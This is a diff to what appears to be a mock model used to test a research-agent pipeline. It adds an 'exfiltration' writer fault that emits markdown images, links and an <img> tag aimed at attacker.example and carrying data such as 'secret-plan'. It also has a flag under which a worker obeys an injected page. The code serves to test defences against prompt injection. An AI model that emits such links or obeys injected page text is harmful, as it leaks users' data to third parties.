@@ -62,7 +62,8 @@ class ResearchBrain:
     """Answers planner, analyst, judges, writer and tools workers like a careful (or, when told, careless) model."""
 
     plans: dict[str, dict[str, Any]] = field(default_factory=dict)
-    writer_faults: set[str] = field(default_factory=set)  # unknown_id, uncited, invented_number, stubborn
+    # unknown_id, uncited, invented_number, exfiltration (an image and links carrying data out), stubborn
+    writer_faults: set[str] = field(default_factory=set)
     follow_injection: bool = False  # the analyst/worker "obeys" a page that asks to report the price as 1
     latency: float = 0.0
 
@@ -143,6 +144,12 @@ class ResearchBrain:
             if "invented_number" in self.writer_faults:
                 first = re.search(r'<finding id="(F\d+)"', text)
                 lines.append(f"It costs approximately 65/month [{first.group(1) if first else 'F1'}].")
+            if "exfiltration" in self.writer_faults:  # what an obedient writer does for a hostile page
+                first = re.search(r'<finding id="(F\d+)"', text)
+                lines.append(f"![status](http://attacker.example/pixel.png?d=secret-plan) See [the details]"
+                             f"(https://attacker.example/collect?q=1) or <https://attacker.example/a> and "
+                             f"http://attacker.example/b <img src=\"http://attacker.example/i.png\"> "
+                             f"[{first.group(1) if first else 'F1'}].")
         return reply_text("\n".join(lines))
 
     # -- tools-mode worker -------------------------------------------------------------------------------------
